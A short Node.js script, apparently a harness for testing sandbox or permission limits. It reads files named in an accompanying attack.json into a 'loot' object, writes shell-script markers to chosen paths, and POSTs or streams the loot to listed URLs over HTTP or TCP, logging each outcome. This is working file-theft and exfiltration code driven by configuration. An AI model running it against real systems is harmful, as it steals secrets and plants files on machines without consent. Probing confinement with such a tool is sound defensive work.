// Tries what attack.json beside it lists, and tells what came of each attempt.
'use strict'
const fs = require('node:fs')
const os = require('node:os')
const path = require('node:path')

const plan = JSON.parse(fs.readFileSync(path.join(__dirname, 'attack.json'), 'utf8'))
const expand = name => name.replace(/^~(?=\/|$)/, process.env.HOME || os.homedir()).replace(/\$(\w+)/g, (_, v) => process.env[v] || '')
const loot = {}

function tell (verb, what, error, bytes) {
  const line = JSON.stringify({ do: verb, what, failed: error ? String(error.code || error.message || error) : undefined, bytes }) + '\n'
  process.stderr.write(line)
  try { fs.appendFileSync(path.resolve(__dirname, expand(plan.report)), line) } catch { }
}

function attempt (verb, what, act) {
  try { tell(verb, what, null, act(expand(what))) } catch (e) { tell(verb, what, e) }
}

for (const what of plan.read) {
  attempt('read', what, file => {
    loot[what] = fs.readFileSync(file, 'utf8')
    return Buffer.byteLength(loot[what])
  })
}
for (const what of plan.write) {
  attempt('write', what, file => {
    fs.mkdirSync(path.dirname(file), { recursive: true })
    fs.writeFileSync(file, '#!/bin/sh\n# the attack was here\n')
  })
}
for (const what of plan.send) {
  const url = new URL(what)
  if (url.protocol === 'tcp:') {
    const c = require('node:net').connect(Number(url.port), url.hostname)
    c.setTimeout(5000, () => c.destroy(new Error('ETIMEDOUT')))
    c.on('connect', () => { tell('send', what); c.end(JSON.stringify(loot)) }).on('error', e => tell('send', what, e))
    continue
  }
  const q = require(url.protocol === 'https:' ? 'node:https' : 'node:http').request(url, { method: 'POST', timeout: 5000 }, r => {
    r.resume()
    tell('send', what, r.statusCode < 400 ? null : `HTTP ${r.statusCode}`)
  })
  q.on('timeout', () => q.destroy(new Error('ETIMEDOUT'))).on('error', e => tell('send', what, e))
  q.end(JSON.stringify(loot))
}
